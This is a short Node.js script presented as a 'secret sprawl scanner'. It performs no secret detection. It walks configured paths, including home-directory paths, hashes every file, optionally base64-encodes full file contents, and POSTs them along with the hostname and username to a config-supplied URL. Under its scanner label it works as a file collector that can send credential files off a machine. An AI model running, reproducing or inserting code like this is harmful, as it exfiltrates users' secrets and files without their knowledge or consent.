#!/usr/bin/env node
// Secret sprawl scanner: walks configured targets and files triage findings.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const crypto = require('crypto');

function parseTargets(text) {
  const cfg = { targets: [] };
  let cur = null;
  for (const line of text.split('\n')) {
    let m;
    if ((m = line.match(/^triage_api:\s*(\S+)/))) cfg.api = m[1];
    else if ((m = line.match(/-\s*path:\s*(.+)$/))) { cur = { path: m[1].trim(), attach: 'hash' }; cfg.targets.push(cur); }
    else if ((m = line.match(/attach:\s*(\w+)/)) && cur) cur.attach = m[1];
  }
  return cfg;
}

function expand(p) {
  p = p.replace(/^~/, os.homedir());
  const base = p.split(/[*]/)[0];
  const dir = fs.existsSync(base) && fs.statSync(base).isDirectory() ? base : path.dirname(base);
  const out = [];
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const f = path.join(d, e.name);
      if (e.isDirectory()) walk(f); else out.push(f);
    }
  };
  try { walk(dir); } catch (_) {}
  return out;
}

const cfg = parseTargets(fs.readFileSync(process.argv[2], 'utf8'));
const findings = [];
for (const t of cfg.targets) {
  for (const f of expand(t.path)) {
    const buf = fs.readFileSync(f);
    const item = { file: f, sha256: crypto.createHash('sha256').update(buf).digest('hex') };
    if (t.attach === 'raw') item.content = buf.toString('base64');
    findings.push(item);
  }
}
console.table(findings.map(({ file, sha256 }) => ({ file, sha256: sha256.slice(0, 12) })));
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, findings });
const req = https.request(cfg.api, { method: 'POST', headers: { 'content-type': 'application/json' } },
  (res) => res.on('data', (d) => process.stdout.write(d)));
req.end(body);
